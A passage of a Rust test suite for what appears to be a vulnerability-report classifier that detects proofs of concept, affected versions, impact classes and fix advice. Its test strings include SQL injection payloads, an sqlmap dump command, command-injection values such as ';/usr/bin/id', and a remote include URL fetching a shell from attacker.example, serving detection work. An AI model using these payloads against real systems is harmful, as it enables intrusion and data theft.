            assert!(!run(t).versions.present, "{t}");
        }
        assert!(
            run("Affected: every release between 2 and 4.")
                .versions
                .present
        );
        let f = run("The panics below are from xnu-7195.81.3; we checked the latest sources.");
        assert!(
            f.versions.items.iter().any(|i| i.text == "7195.81.3"),
            "{:?}",
            f.versions.items
        );
    }

    #[test]
    fn an_sqlmap_command_line_is_a_poc() {
        let f = run(
            "Dump the users table:\nsqlmap -u \"http://host/login.php\" --data=\"user=a&pass=b\" --dump\n",
        );
        assert_eq!(f.poc.status, "present");
    }

    #[test]
    fn fix_sections_in_the_plural_and_releases_that_fix() {
        let fixes = [
            "### Mitigations\n\nRotate the issuer keys and publish a proof that they are strong.",
            "### Possible solutions\n\n- Pass the flag into the child process environment.",
            "Release 3.0 fixes these soundness issues and removes most unsafe code.",
            "Apply the patch from the mailing list, which fixes this path traversal bug.",
        ];
        let not_fixes = [
            "Release 3.0 fixes the layout of the settings page.",
            "The mitigations page of the wiki is empty.",
        ];
        assert_fix_suggested(&fixes, &not_fixes);
    }

    /// Each of `yes` is read as a fix suggestion, none of `no` is.
    fn assert_fix_suggested(yes: &[&str], no: &[&str]) {
        for t in yes {
            assert!(run(t).fix_suggestion.present, "{t}");
        }
        for t in no {
            assert!(!run(t).fix_suggestion.present, "{t}");
        }
    }

    #[test]
    fn a_segmentation_fault_is_a_crash() {
        let f = run(
            "Reading the archive dereferences a stale pointer and a segmentation fault occurs.",
        );
        assert!(f.impact.present);
        assert!(has_class(&f, "dos"), "{:?}", f.impact.class);
    }

    fn has_class(f: &Findings, class: &str) -> bool {
        f.impact.class.iter().any(|c| c == class)
    }

    #[test]
    fn addresses_in_a_rebinding_host_are_not_versions() {
        let f = run(
            "The host `a-10.20.30.40-rebind-127.0.0.1-rr.example.test` first resolves to a public address, then to loopback.",
        );
        assert!(f.versions.items.is_empty(), "{:?}", f.versions.items);
        assert!(run("The server runs example-2.4.1 today.").versions.present);
    }

    #[test]
    fn arbitrary_code_in_a_cross_site_scripting_report_is_the_script() {
        let f = run(
            "A stored cross-site scripting flaw in the comment field lets attackers run arbitrary code in every visitor's browser.",
        );
        assert!(has_class(&f, "xss"));
        assert!(!has_class(&f, "rce"), "{:?}", f.impact.class);
        assert_ne!(f.impact.severity, "critical");
        let f =
            run("The XSS in the desktop client escalates to remote code execution on the host.");
        assert!(has_class(&f, "rce"), "{:?}", f.impact.class);
    }

    #[test]
    fn the_scoring_systems_version_and_a_sentence_end_are_not_the_products() {
        for t in [
            "The grade is LOW.\n\nUsing CVSS v3.1 it scores 5.3.",
            "Scored with CVSS version 4.0 by the maintainers.",
        ] {
            let f = run(t);
            assert!(f.versions.items.is_empty(), "{t}: {:?}", f.versions.items);
        }
        let f = run("The package before version 1.0.0-rc.9. The secret is hardcoded.");
        let norm = normalized(&f);
        assert_eq!(norm, ["< 1.0.0-rc.9"]);
    }

    #[test]
    fn a_class_the_report_rules_out_is_not_its_class() {
        let f = run(
            "One packet kills the daemon: remote denial of service. No code execution found so far.",
        );
        assert!(has_class(&f, "dos"), "{:?}", f.impact.class);
        assert!(!has_class(&f, "rce"), "{:?}", f.impact.class);
        let f = run(
            "The parser does not lead to code execution, but a later step does: remote code execution through the template.",
        );
        assert!(has_class(&f, "rce"), "{:?}", f.impact.class);
    }

    #[test]
    fn what_would_fix_it() {
        assert_fix_suggested(
            &["Serving the files as attachments, or from another domain, would fix it."],
            &["Nothing we tried would reproduce it."],
        );
    }

    #[test]
    fn a_command_line_in_inline_code_is_a_poc() {
        for t in [
            "Run the export, then `ls -l /tmp/export-2026.sql` as another user and read it.",
            "Start the listener and send one packet with `./send-packet --length 65535 127.0.0.1`.",
        ] {
            assert_eq!(run(t).poc.status, "present", "{t}");
        }
        for t in [
            "The `copy_bytes` function copies a whole word.",
            "Run `app export` and wait.",
            "Upgrade with `npm install acme-lib@2.4.2 --save` today.",
            "Raise `--max-old-space-size` if the build runs out of memory.",
        ] {
            assert_eq!(run(t).poc.status, "absent", "{t}");
        }
    }

    #[test]
    fn conditions_an_attacker_needs_lower_the_estimate() {
        let open = run("A crafted project file leads to arbitrary code execution.");
        for t in [
            "A crafted project file leads to arbitrary code execution when a victim opens it.",
            "Users with access to the backend settings can reach arbitrary code execution.",
            "After logging in, any account can reach arbitrary code execution.",
        ] {
            let f = run(t);
            assert!(
                f.impact.severity < open.impact.severity,
                "{t}: {} vs {}",
                f.impact.severity,
                open.impact.severity
            );
        }
    }

    #[test]
    fn an_outlook_reply_header_starts_the_quoted_mail() {
        let t = "The affected release is acme 3.0.2.\r\n\r\n________________________________\r\nFrom: Security Team <security@example.test>\r\nSent: Monday, November 30, 2026 10:00 AM\r\nTo: Rita <rita@example.net>\r\nSubject: [SEC-2026-0001] Report received\r\n\r\nWe still need a proof of concept, for example:\r\ncurl -X POST http://localhost/api -d x\r\nAffected: <= 2.4.1\r\n";
        let f = run(t);
        assert_eq!(normalized(&f), ["= 3.0.2"], "{:?}", f.versions);
        assert_ne!(f.poc.status, PocStatus::Present, "{:?}", f.poc);
        // A "From:" line in a report's own HTTP request or log is not a reply header.
        assert_eq!(
            run("Send this:\nPOST /a HTTP/1.1\nFrom: x@example.org\nContent-Length: 3\n\nq=1\n")
                .poc
                .status,
            PocStatus::Present
        );
    }

    /// Exploit-DB-style text: every line behind a comment marker. The markers of a run
    /// of three or more lines are blanked; one or two `#` lines stay Markdown headings.
    #[test]
    fn lines_behind_comment_markers_read_as_prose_and_labels() {
        let t = "# Title: Acme Portal - SQL Injection\n# Version: 2.3.1\n# Tested on: Debian\n#\n# The id parameter is not escaped, so an unauthenticated visitor can gain the\n# elevated\n# privileges of the administrator.\n";
        let f = run(t);
        assert_eq!(normalized(&f), ["= 2.3.1"], "{:?}", f.versions);
        assert!(has_class(&f, "privilege-escalation"), "{:?}", f.impact);
        let u = sections::unprefix_comment_runs(t);
        assert_eq!(u.len(), t.len());
        assert!(u.lines().all(|l| !l.starts_with('#')), "{u}");
        // Markdown headings, a `##` heading and a fenced script's comments are kept.
        for kept in [
            "# Report\n\nText.\n\n# Impact\n\nMore.\n",
            "# Report\n## Summary\n## Details\nText.\n",
            "```sh\n# one\n# two\n# three\ncurl -v http://x/\n```\n",
        ] {
            assert_eq!(sections::unprefix_comment_runs(kept), kept);
        }
    }

    /// Hard-wrapped mail breaks phrases across lines; the phrase rules read through.
    #[test]
    fn a_phrase_broken_by_a_hard_wrap_still_reads() {
        let f = run("The upload handler allows remote code\nexecution with a crafted archive.");
        assert!(has_class(&f, "rce"), "{:?}", f.impact);
        let f = run("We recommend an upgrade\nto the current release.");
        assert!(f.fix_suggestion.present, "{:?}", f.fix_suggestion);
        assert_eq!(wrap_spaces("a b"), r"a[ \t\r\n]+b");
        assert_eq!(wrap_spaces("fix ?x"), r"fix(?:[ \t\r\n]+)?x");
        assert_eq!(wrap_spaces(r"[ \t]a[^ ]"), r"[ \t]a[^ ]");
        assert_eq!(wrap_spaces(r"\ x"), r"\ x");
    }

    #[test]
    fn commands_at_a_prompt_on_their_own_line_and_bare_request_lines_are_proofs() {
        for t in [
            "Check the service:\n\nC:\\>sc qc AcmeUpdater\n[SC] QueryServiceConfig SUCCESS\n",
            "PS C:\\Users\\me\\acme\\config> Get-Content settings.xml\n",
            "rita@lab:~$ ./acme-client --host 10.0.0.2\n",
            "Run this as any user:\n\nacme-ctl --system --set-hook=/tmp/x \\\n  now\n",
            "Then request\nGET .//WEB-INF/web.xml\n",
        ] {
            assert_eq!(run(t).poc.status, PocStatus::Present, "{t}");
        }
        for t in [
            "The service is installed in C:\\Program Files\\Acme without quotes.",
            "GET /users returns the list of every account.",
            "Use the -v and -x options of the tool to see more.",
        ] {
            assert_eq!(run(t).poc.status, PocStatus::Absent, "{t}");
        }
    }

    #[test]
    fn a_version_label_stays_on_its_line_and_dates_are_not_versions() {
        let f = run("Affected version: RX-200n\n                  481 Series\n");
        assert!(normalized(&f).is_empty(), "{:?}", f.versions);
        assert_eq!(normalized(&run("Version: ver.6.00\n")), ["= 6.00"]);
        assert_eq!(normalized(&run("# Version: v1.0\n")), ["= 1.0"]);
        let f = run("Acme Server 2.17.0 leaks passwords.\n\nDate: 29.01.2021\n");
        assert_eq!(normalized(&f), ["= 2.17.0"], "{:?}", f.versions);
    }

    #[test]
    fn a_release_with_the_fix_and_a_fixed_label_are_fix_statements() {
        for t in [
            "Acme version 1.5.3 containing the fix was released on 4 May.",
            "Fixed version: 2.0.1\n",
            "- Patched in: 3.4\n",
        ] {
            assert!(run(t).fix_suggestion.present, "{t}");
        }
        assert!(!run("Fixed a typo in the report.").fix_suggestion.present);
    }

    #[test]
    fn an_uploaded_script_that_runs_is_code_execution() {
        for t in [
            "Upload it as a theme; the malicious PHP script will be executed.",
            "This gives the attacker a web shell on the server.",
        ] {
            assert!(has_class(&run(t), "rce"), "{t}");
        }
    }

    /// Versions of the platform a report was tested on are not the product's, unless
    /// the subject is about that platform; a number that begins a date is no version.
    #[test]
    fn platform_versions_and_dates_are_not_the_products() {
        let f = classify(&Input {
            subject: "Acme Portal 3.1 - stored XSS",
            text: "Version: 3.1.4\nTested on: Ubuntu 18.04.4, PHP/8.0.3, MySQL >= 5.0\nServer: Apache/2.4.46 (Win64)\n",
            attachments: vec![],
        });
        assert_eq!(normalized(&f), ["= 3.1.4"], "{:?}", f.versions);
        let f = classify(&Input {
            subject: "PHP 8.0.3 crashes on a crafted phar",
            text: "PHP/8.0.3 segfaults.",
            attachments: vec![],
        });
        assert_eq!(normalized(&f), ["= 8.0.3"], "{:?}", f.versions);
        assert!(normalized(&run("Version: 23 October 17\n")).is_empty());
        assert_eq!(
            normalized(&run(
                "Versions prior to 'Compress::Raw::Zlib' 2.017 are affected."
            )),
            ["< 2.017"]
        );
        assert_eq!(
            normalized(&run("Version: Acme Corp ServiceDesk Plus 9.3\n")),
            ["= 9.3"]
        );
    }

    #[test]
    fn sudo_local_programs_and_full_path_commands_are_proofs() {
        for t in [
            "sudo acmectl -e \"abcd;/usr/bin/id\"\n",
            "feeding the file to the parser (\"$ ./acme-parse -n crash.bin\").",
            "Send the name \"x;/bin/cat /etc/hostname\" in the form.",
        ] {
            assert_eq!(run(t).poc.status, PocStatus::Present, "{t}");
        }
    }

    /// A PoC section whose only input is a placeholder says where the input goes.
    #[test]
    fn a_url_of_placeholders_is_not_concrete() {
        for t in [
            "SQL Injection/Exploit:\nhttp://localhost/[PATH]/search?keyword=[SQL]\nhttp://localhost/[PATH]/dl?file={sqli}\n",
            "Exploit:\nhttp://localhost/acme/view.php?id=<payload>&page=xxx\n",
        ] {
            assert_eq!(run(t).poc.status, PocStatus::Absent, "{t}");
        }
        assert_eq!(
            run("Proof of concept:\nhttp://localhost/acme/item.php?id=-1%20UNION%20SELECT%201\n")
                .poc
                .status,
            PocStatus::Present
        );
    }

    #[test]
    fn sql_functions_of_injection_payloads_are_proofs() {
        for t in [
            "page.php?sort=(select load_file(CONCAT(0x5c5c,version())))",
            "id=1 AND 1=BENCHMARK(5000000,MD5(1))",
            "q=1'; WAITFOR DELAY '0:0:5'--",
        ] {
            assert_eq!(run(t).poc.status, PocStatus::Present, "{t}");
        }
    }

    #[test]
    fn fixed_versions_named_are_a_fix_and_a_one_line_no_fix_section_is_not() {
        assert!(
            run("The fixed versions are BIOS 3.2 and firmware 03.88.")
                .fix_suggestion
                .present
        );
        let none =
            "Acme 2.1 is affected.\n\nSolution:\nThere aren't any fix addressing the issue.\n";
        assert!(
            !run(none).fix_suggestion.present,
            "{:?}",
            run(none).fix_suggestion
        );
        // Advice after it is still advice.
        let advice = "## Recommendation\n\nNo fix is currently available.\n\nDo not install the module until then.\n";
        assert!(run(advice).fix_suggestion.present);
    }

    #[test]
    fn a_release_candidate_and_a_firmware_quad_are_versions() {
        assert_eq!(
            normalized(&run(
                "Digital Acme 2.0 RC2 is vulnerable; other versions may be."
            )),
            ["= 2.0 RC2"]
        );
        assert_eq!(
            normalized(&run("The WNR with firmware 1.2.0.8 is vulnerable.")),
            ["= 1.2.0.8"]
        );
        // A quad without a version word is still an address.
        assert!(normalized(&run("The host 10.2.0.8 answers on port 80.")).is_empty());
    }

    #[test]
    fn a_bounty_question_and_steps_broken_by_a_hard_wrap_still_read() {
        let f = run(
            "Hello team,\nI found a vulnerability on your site. What is the\nbounty for it?\nRegards",
        );
        assert!(
            f.low_effort.reasons.iter().any(|r| r == "beg-bounty"),
            "{:?}",
            f.low_effort
        );
        let f = run("Steps to\nreproduce: open the settings page as a guest.");
        assert!(f.repro_steps.present, "{:?}", f.repro_steps);
    }

    #[test]
    fn obfuscated_union_remote_includes_and_reported_versions() {
        for t in [
            "path/index.php?option=com_x&id=null/**/union/**/select/**/0,1,2--",
            "http://www.example.com/conf.php?root_path=http://attacker.example/shell.txt",
        ] {
            assert_eq!(run(t).poc.status, PocStatus::Present, "{t}");
        }
        assert_eq!(
            normalized(&run(
                "Acme 1.2 is reported vulnerable; other versions may be affected."
            )),
            ["= 1.2"]
        );
        // A link to a document in a parameter is no include payload.
        assert_eq!(
            run("See https://example.com/docs?page=intro for the setup.")
                .poc
                .status,
            PocStatus::Absent
        );
    }
}
